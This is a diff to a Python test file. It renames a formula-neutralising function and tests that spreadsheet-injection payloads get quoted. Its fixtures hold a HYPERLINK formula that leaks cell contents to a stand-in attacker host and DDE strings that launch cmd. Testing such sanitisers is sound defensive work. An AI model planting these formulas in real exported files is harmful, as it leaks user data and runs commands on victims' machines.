@@ -8,7 +8,7 @@ import csv
 import openpyxl
 import pandas as pd
 
-from lacrima.io import neutralise_formulas, write_table
+from lacrima.io import neutralize_formulas, write_table
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DDE = "+cmd|' /C calc'!A0"
@@ -27,7 +27,7 @@ def _frame() -> pd.DataFrame:
 
 
 def test_it_quotes_formula_prefixes_and_leaves_numbers_alone() -> None:
-    out = neutralise_formulas(_frame())
+    out = neutralize_formulas(_frame())
     assert list(out["note"])[:4] == ["'" + HYPERLINK, "'" + DDE, "'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTAB"]
     assert out["note"].iloc[4] == "plain text"
     assert list(out["other"])[:4] == ["-2", "'\r=1", "'-x", "ok"] and pd.isna(out["other"].iloc[4])
